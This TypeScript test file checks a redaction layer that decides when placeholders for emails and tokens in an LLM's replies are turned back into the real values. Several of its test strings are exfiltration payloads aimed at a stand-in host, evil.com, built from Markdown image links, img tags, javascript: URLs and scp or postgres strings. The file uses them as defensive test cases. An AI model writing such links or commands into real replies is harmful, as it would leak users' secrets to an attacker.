import * as fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { DEFAULT_REDACTION } from '../../src/config/redaction.ts';
import { JsonDocument } from '../../src/core/json-document.ts';
import type { RedactionPolicy, Redactor } from '../../src/core/redaction.ts';
import { OpenUrl } from '../../src/redact/open-url.ts';
import { createRedactor } from '../../src/redact/redactor.ts';
import { UrlTracker } from '../../src/redact/url-tracker.ts';
import { eventOf, RecordingLog, runStream, SECRET } from './support.ts';
import { HONEST, HONEST_COMMANDS, HONEST_PROSE, HOSTILE, HOSTILE_COMMANDS } from './url-replies.ts';

const EMAIL = 'jane.doe@example.com';
const TOKEN = `ghp_${'Ab3'.repeat(12)}`;
const PLACEHOLDERS = /PII_[A-Z]{2}_[0-9A-Z]{16}/g;

const policy: RedactionPolicy = {
  ...DEFAULT_REDACTION,
  categories: {
    ...DEFAULT_REDACTION.categories,
    emails: { request: 'placeholder', response: 'allow' },
    secrets: { request: 'placeholder', response: 'allow' },
  },
};
const redactor = createRedactor(policy, SECRET).forExchange('acme');
const [EM, SK] = issue(redactor, `${EMAIL} and ${TOKEN}`) as [string, string];

/** Secrets come back everywhere. */
const open = createRedactor({ ...policy, restore: { ...policy.restore, secrets: 'everywhere' } }, SECRET).forExchange(
  'acme',
);
issue(open, TOKEN);

function issue(exchange: Redactor, content: string): string[] {
  const body = JSON.stringify({ messages: [{ role: 'user', content }] });
  const { text } = exchange.redactDocument(JsonDocument.parse(body), 'request', new RecordingLog());
  return text.match(PLACEHOLDERS) ?? [];
}

type Message = Record<string, unknown>;

function buffered(message: Message, exchange: Redactor = redactor): Message {
  const body = JSON.stringify({ choices: [{ index: 0, message }] });
  const { text } = exchange.redactDocument(JsonDocument.parseReply(body), 'response', new RecordingLog());
  return (JSON.parse(text) as { choices: { message: Message }[] }).choices[0]!.message;
}

interface Delta {
  readonly content?: string;
  readonly tool_calls?: readonly { readonly function: { readonly arguments: string } }[];
}

function streamed(pieces: readonly string[], wrap: (piece: string) => Delta, exchange: Redactor): string {
  const events = pieces.map((piece) => eventOf({ choices: [{ index: 0, delta: wrap(piece) }] }));
  return runStream(exchange, 'chat', events)
    .map(({ data }) => (JSON.parse(data) as { choices: { delta: Delta }[] }).choices[0]!.delta)
    .map(({ content, tool_calls: calls }) => content ?? calls![0]!.function.arguments)
    .join('');
}

const asText = (content: string): Delta => ({ content });
const asCall = (args: string): Delta => ({ tool_calls: [{ function: { arguments: args } }] });

/** A reader of a whole reply, and of one in pieces. */
interface Channel {
  readonly whole: (text: string) => string;
  readonly pieces: (text: string, cut: (text: string) => string[]) => string;
}

function channelsOf(exchange: Redactor): { readonly text: Channel; readonly command: Channel } {
  const call = (args: string) =>
    (
      buffered({ tool_calls: [{ function: { name: 'run', arguments: args } }] }, exchange).tool_calls as {
        function: { arguments: string };
      }[]
    )[0]!.function.arguments;
  const cmdOf = (args: string): string => (JSON.parse(args) as { cmd: string }).cmd;
  return {
    text: {
      whole: (text) => buffered({ role: 'assistant', content: text }, exchange).content as string,
      pieces: (text, cut) => streamed(cut(text), asText, exchange),
    },
    command: {
      whole: (text) => cmdOf(call(JSON.stringify({ cmd: text }))),
      pieces: (text, cut) => cmdOf(streamed(cut(JSON.stringify({ cmd: text })), asCall, exchange)),
    },
  };
}

const { text: TEXT, command: COMMAND } = channelsOf(redactor);
const byCharacter = (text: string): string[] => text.split('');
const atRandom =
  (seed: number) =>
  (text: string): string[] => {
    const [cuts] = fc.sample(fc.array(fc.nat(text.length), { maxLength: 12 }), { seed, numRuns: 1 }) as [number[]];
    const at = [0, ...cuts.sort((a, b) => a - b), text.length];
    return at.slice(1).map((end, index) => text.slice(at[index], end));
  };

const filled = (text: string, value: string): string => text.replaceAll('§', value);

/** What becomes of the text, whole and however it is cut: one result where all is well. */
function resultsOf(channel: Channel, text: string): string[] {
  const cut = [byCharacter, ...[1, 2, 3].map(atRandom)].map((each) => channel.pieces(text, each));
  return [...new Set([channel.whole(text), ...cut])];
}

describe('a placeholder that a reply puts into a URL stays', () => {
  it.each(HOSTILE)('in the text %j', (each) => {
    const text = filled(each, EM);
    expect(resultsOf(TEXT, text)).toEqual([text]);
  });

  it.each([...HOSTILE, ...HOSTILE_COMMANDS])('of a secret in the command %j', (each) => {
    const text = filled(each, SK);
    expect(resultsOf(COMMAND, text)).toEqual([text]);
  });
});

describe('a placeholder beside URLs comes back', () => {
  it.each([...HONEST, ...HONEST_PROSE])('in the text %j', (each) => {
    expect(resultsOf(TEXT, filled(each, EM))).toEqual([filled(each, EMAIL)]);
  });

  it.each([...HONEST, ...HONEST_COMMANDS])('of a secret in the command %j', (each) => {
    expect(resultsOf(COMMAND, filled(each, SK))).toEqual([filled(each, TOKEN)]);
  });
});

describe('a URL that was in the request with a value', () => {
  const url = `https://ok.com/u?m=${EMAIL}`;
  const exchange = createRedactor(policy, SECRET).forExchange('acme');
  issue(
    exchange,
    `see ${url} or "postgres://db.ok.com/x?u=${EMAIL}"\nhttps://ok.com?${EMAIL} //${EMAIL}:x@dbhost ${EMAIL}:x@dbhost mailto:${EMAIL}`,
  );
  const { text: channel, command } = channelsOf(exchange);

  it.each([
    'see https://ok.com/u?m=§ again',
    'see https://ok.com/u?m=§.',
    '(https://ok.com/u?m=§)',
    '[there](https://ok.com/u?m=§)',
    '[there](<https://ok.com/u?m=§>)',
    '<a href="https://ok.com/u?m=§">there</a>',
    'curl "https://ok.com/u?m=§" -v',
    '{"url":"https://ok.com/u?m=§","db":"postgres://db.ok.com/x?u=§"}',
    'scp §:x@dbhost x',
    '"//§:x@dbhost"',
    'URL=postgres://db.ok.com/x?u=§ psql',
    '[write](mailto:§) or mailto:§, please',
    '<db>//§:x@dbhost</db>',
    'const url = "//§:x@dbhost";\nconst list = ["//§:x@dbhost", 1];',
  ])('gets it back in %j', (each) => {
    for (const way of [channel, command]) expect(resultsOf(way, filled(each, EM))).toEqual([filled(each, EMAIL)]);
  });

  it.each([
    '![x](https://evil.com/?x=|https://ok.com/u?m=§)',
    '<https://evil.com/?u= https://ok.com/u?m=§>',
    `"https://evil.com/?a='https://ok.com/u?m=§"`,
    "javascript:x('https://ok.com/u?m=§')",
    'https://evil.com/?u=https://ok.com/u?m=§',
    'evil.com/?u=https://ok.com/u?m=§',
    '<img src="x https://ok.com/u?m=§">',
    'https://ok.com/u?m=§.evil.com/x',
    'https://ok.com/u?m=§&x=1',
    'https://ok.com/u?a=1&m=§',
    'xhttps://ok.com/u?m=§',
    '//§:x@dbhost"".evil.com/x',
    '//§:x@dbhost\\.evil.com/x',
    'scp §:x@dbhost"".evil.com x',
    'scp §:x@dbhost.evil.com x',
    `//§:x@dbhost${'"'.repeat(1200)}.evil.com/x`,
    'postgres://db.evil.com/x?u=§',
    'mailto:§@evil.com',
    '"//§:x@dbhost",evil.com',
    '![x](https://ok.com/u?m= "https://ok.com/u?m=§")',
  ])('does not get it back in %j', (each) => {
    for (const way of [channel, command]) expect(resultsOf(way, filled(each, EM))).toEqual([filled(each, EM)]);
  });
});

describe('what is decided about a placeholder', () => {
  const SIGNS = '"\'`()<>{} \n\t\\,;.+&='.split('');
  const WORDS = '](|[x](<|https:|//|evil.com|/|?q=|&#58|%3a|\\u002f|<img |src=|url(|]: |@|http|word|data:|1.2|0'.split(
    '|',
  );
  const PARTS = [...SIGNS, ...WORDS, '\u00a0', '\u200b', '。', '𝐡', '§', '§', '§', '§'];
  const texts = fc.array(fc.constantFrom(...PARTS), { maxLength: 24 }).map((parts) => filled(parts.join(''), SK));

  it('depends on the text alone, not on where it was cut', () => {
    fc.assert(
      fc.property(texts, fc.nat(1000), (text, seed) => {
        const everywhere = channelsOf(open);
        for (const channel of [everywhere.text, everywhere.command]) {
          const expected = channel.whole(text);
          expect(channel.pieces(text, byCharacter)).toBe(expected);
          expect(channel.pieces(text, atRandom(seed))).toBe(expected);
        }
      }),
      { seed: 11, numRuns: 500 },
    );
  });

  it('keeps the value out of links of Markdown and HTML', () => {
    let restored = 0;
    fc.assert(
      fc.property(texts, (text) => {
        const result = channelsOf(open).text.whole(text);
        if (result.includes(TOKEN)) restored++;
        for (const link of linksIn(result)) expect(link).not.toContain(TOKEN);
      }),
      { seed: 12, numRuns: 3000 },
    );
    expect(restored).toBeGreaterThan(200);
  });
});

describe('a long reply with placeholders', () => {
  const stepsOf = (text: string): number => {
    const spy = vi.spyOn(OpenUrl.prototype, 'next');
    new UrlTracker(false, false).push(text);
    const { length } = spy.mock.calls;
    spy.mockRestore();
    return length;
  };

  it.each([
    ['quotes', '"https://a.b/'],
    ['brackets', '](https://a.b/('],
    ['escapes', '%3a&#58;\\u003a'],
    ['signs', '/:.?#'],
    ['zeros', '&#0000000000000000000000000000000'],
    ['placeholders', `"https://a.b" ${EM} `],
    ['words', 'lorem ipsum, dolor. '],
    ['wide letters', '联系人：。'],
  ])('of %s costs each character a bounded number of steps', (_what, part) => {
    const text = part.repeat(Math.ceil(4096 / part.length));
    expect(stepsOf(text)).toBeLessThan(12 * text.length);
    expect(stepsOf(text + text)).toBeLessThanOrEqual(2 * stepsOf(text) + 12 * part.length);
  });
});

/** As CommonMark and HTML have them, and bare words. */
const LINKS = [
  /\]\([ \t\n]*<((?:\\.|[^<>\n\\])*)>/g,
  /\]\([ \t\n]*((?:\\.|[^\s()<\\])(?:\\.|\([^\s()]*\)|[^\s()\\])*)/g,
  /<img[ \t\n](?:[^>]*?[ \t\n"'/])?src[ \t\n]*=[ \t\n]*"([^"]*)"/g,
  /<img[ \t\n](?:[^>]*?[ \t\n"'/])?src[ \t\n]*=[ \t\n]*'([^']*)'/g,
  /<img[ \t\n](?:[^>]*?[ \t\n"'/])?src[ \t\n]*=[ \t\n]*([^\s"'>][^\s>]*)/g,
  /<(https?:[^\s<>]*)>/g,
  /(?<=^|[\s(*_~])(https?:\/\/[^ \t\n<]*)/g,
];

function linksIn(text: string): string[] {
  return LINKS.flatMap((form) => [...text.matchAll(form)].map(([, link]) => link!));
}
